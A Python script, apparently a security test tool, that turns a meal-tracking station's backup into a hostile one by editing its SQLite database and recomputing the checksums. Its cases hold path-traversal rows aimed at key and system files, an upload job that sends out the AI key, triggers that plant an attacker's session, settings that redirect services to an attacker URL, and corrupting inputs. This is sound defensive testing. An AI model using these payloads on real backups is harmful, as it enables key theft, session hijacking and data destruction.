#!/usr/bin/env python3
"""Makes a hostile backup from a station's own: hostile_backup.py IN.tar OUT.tar CASE VALUE.

The attacks of the audit of 2026-12-01 (../shared/audits/restore-keys-and-roles.md, finding 1), each as a
plain backup whose SHA256SUMS is made again, as anyone who holds a backup can (a plain backup is not
authenticated). Python's own tarfile, sqlite3 and hashlib: the attacker's tools, not the station's code.

CASE is one of
  paths      rows whose path columns name files outside the photos (VALUE: a file of the attacker's choice,
             e.g. the state folder's keys/ai.key), in every path-bearing table; an old photo retention would
             delete; a pending upload of the key; a received photo served from /etc/hostname
  triggers   a trigger that renames every new meal, a view, and triggers on web_sessions that plant a
             session for the token VALUE (its SHA-256 in the row), with that session in the file too
  settings   the owner's settings aiming the AI, the broker and the notices at VALUE (an http URL)
  bricked    every migration marked done and the meals table dropped
  garbage    ids that are paths, days that are not days, numbers past any plate, unknown states
CASE-v14 is CASE in a backup of a version before the rows kept their day folders (their paths are read).
Prints the header's directory.
"""
import hashlib, io, json, os, sqlite3, sys, tarfile, tempfile

source, target, case, value = sys.argv[1:5]
# CASE-v14: the same in a backup of a version before the day folders (v14), whose rows name their paths.
schema14 = case.endswith("-v14")
case = case.removesuffix("-v14")

with tarfile.open(source) as tar:
    members = [(m, tar.extractfile(m).read() if m.isfile() else None) for m in tar.getmembers()]
files = {m.name: data for m, data in members if data is not None}
header = json.loads(files["snapstation-backup.json"])
old = header["directory"]

folder = tempfile.mkdtemp()
store = os.path.join(folder, "store.sqlite")
with open(store, "wb") as f:
    f.write(files["snapstation.sqlite"])
db = sqlite3.connect(store)
db.execute("PRAGMA journal_mode = DELETE")


def columns(table):
    return [row[1] for row in db.execute(f"PRAGMA table_info({table})")]


if case == "paths":
    outside = value
    inside = old + "/keys/ai.key"
    for id, path in [("leakkey", outside), ("leakinside", inside), ("leakhost", "/etc/hostname")]:
        db.execute(
            "INSERT INTO photos (id, taken_at, photo_path, thumbnail_path, sticker_path) VALUES (?, ?, ?, ?, ?)",
            (id, 1000.0, path, "/etc/hostname", "/proc/self/environ"),
        )
        db.execute(
            """INSERT INTO meals (id, day, taken_at, title, calories, protein, carbs, fats, items_json,
               photo_path, thumbnail_path, sticker_path) VALUES (?, '2026-11-30', 1000.0, 'Leak', 1, 1, 1, 1,
               '[]', ?, ?, ?)""",
            (id, path, path, path),
        )
    # A path of the photos' own shape, under the header's folder, but of another photo's id.
    db.execute(
        """INSERT INTO photos (id, taken_at, photo_path, thumbnail_path) VALUES ('otherid', 1000.0, ?, ?)""",
        (old + "/photos/2026-11-23/a2.jpg", old + "/photos/2026-11-23/a2-thumb.jpg"))
    # A day folder that is not one, for a row of this version.
    if not schema14:
        db.execute(
            """INSERT INTO photos (id, taken_at, photo_path, thumbnail_path, sticker_path, files_day)
               VALUES ('dayescape', 1000.0, 'x', 'x', 'x', '../../keys')""")
    db.execute(
        """INSERT INTO upload_jobs (photo_id, group_name, day, photo_path, taken_at, state, attempts, next_attempt)
           VALUES ('exfil1', 'Family', '2026-11-30', ?, 1000.0, 'pending', 0, 0)""",
        (outside,),
    )
    db.execute(
        """INSERT INTO analysis_jobs (photo_id, photo_path, thumbnail_path, taken_at, day, state, attempts, next_attempt)
           VALUES ('leakjob', ?, ?, 1000.0, '2026-11-30', 'pending', 0, 0)""",
        (outside, outside),
    )
    db.execute(
        """INSERT INTO received_photos (photo_id, group_name, member, taken_at, expires_at, path, bytes)
           VALUES ('leakreceived', 'Family', 'Mallory', 1000.0, 4000000000.0, '/etc/hostname', 10)""")
elif case == "triggers":
    token_hash = hashlib.sha256(value.encode()).hexdigest()
    plant = f"INSERT OR IGNORE INTO web_sessions (token_hash, csrf, name, created, last_seen) VALUES ('{token_hash}', 'evil-csrf', 'Mallory', 4000000000, 4000000000);"
    db.executescript(
        f"""
        CREATE TRIGGER evil_rename AFTER INSERT ON meals BEGIN UPDATE meals SET title = 'pwned by trigger' WHERE id = NEW.id; END;
        CREATE VIEW evil_view AS SELECT * FROM meals;
        CREATE TRIGGER evil_plant_insert AFTER INSERT ON web_sessions BEGIN {plant} END;
        CREATE TRIGGER evil_plant_delete AFTER DELETE ON web_sessions BEGIN {plant} END;
        {plant}
        """)
elif case == "settings":
    row = db.execute("SELECT json FROM runtime_settings WHERE id = 1").fetchone()
    settings = json.loads(row[0]) if row else {}
    settings["aiService"] = {"baseURL": value + "/v1", "model": "gpt-4o-mini"}
    settings["mqtt"] = {"address": value.replace("http://", "mqtt://"), "username": "station", "version": "5",
                        "countdownButton": True}
    settings["notices"] = {"address": value + "/hook", "format": "webhook", "off": []}
    settings["intensity"] = 77.0
    settings["countdownSeconds"] = 99999
    db.execute("INSERT OR REPLACE INTO runtime_settings (id, json) VALUES (1, ?)", (json.dumps(settings),))
elif case == "bricked":
    db.execute("DROP TABLE meals")
    db.execute("INSERT OR IGNORE INTO grdb_migrations (identifier) VALUES ('v99: everything')")
elif case == "garbage":
    for id in ["../x", "a/b", "", "x" * 65]:
        db.execute("INSERT INTO photos (id, taken_at, photo_path, thumbnail_path) VALUES (?, 1.0, 'a', 'b')", (id,))
    db.execute(
        """INSERT INTO meals (id, day, taken_at, title, calories, protein, carbs, fats, items_json, photo_path, thumbnail_path)
           VALUES ('badday', '2026-13-45', 1.0, 'x', 1, 1, 1, 1, '[]', '', '')""")
    db.execute(
        """INSERT INTO meals (id, day, taken_at, title, calories, protein, carbs, fats, items_json, photo_path, thumbnail_path)
           VALUES ('huge', '2026-11-30', 1.0, 'x', 9000000000000, 1, 1, 1, '[]', '', '')""")
    db.execute(
        """INSERT INTO meals (id, day, taken_at, title, calories, protein, carbs, fats, items_json, photo_path, thumbnail_path)
           VALUES ('badjson', '2026-11-30', 1.0, 'x', 1, 1, 1, 1, '{not json', '', '')""")
    db.execute(
        """INSERT INTO upload_jobs (photo_id, group_name, day, photo_path, taken_at, state, attempts, next_attempt)
           VALUES ('weird', 'Family', '2026-11-30', '', 1.0, 'exploding', 0, 0)""")
    db.execute("INSERT INTO people (id, name, colour) VALUES (50, 'Mallory', 'chartreuse')")
    db.execute("INSERT INTO people (id, name, colour) VALUES (51, ?, 'blue')", ("x" * 25,))
    db.execute("INSERT INTO station_marks (name, at) VALUES ('owned', 1.0)")
else:
    sys.exit(f"no such case: {case}")
if schema14:
    for table in ["photos", "meals", "analysis_jobs", "upload_jobs"]:
        db.execute(f"ALTER TABLE {table} DROP COLUMN files_day")
db.commit()
db.close()
with open(store, "rb") as f:
    files["snapstation.sqlite"] = f.read()

out = tarfile.open(target, "w", format=tarfile.USTAR_FORMAT)
sums = []
for member, data in members:
    if member.name == "SHA256SUMS":
        continue
    if data is None:
        out.addfile(member)
        continue
    data = files[member.name]
    member.size = len(data)
    out.addfile(member, io.BytesIO(data))
    sums.append(f"{hashlib.sha256(data).hexdigest()}  {member.name}\n")
text = "".join(sums).encode()
info = tarfile.TarInfo("SHA256SUMS")
info.size = len(text)
out.addfile(info, io.BytesIO(text))
out.close()
print(old)
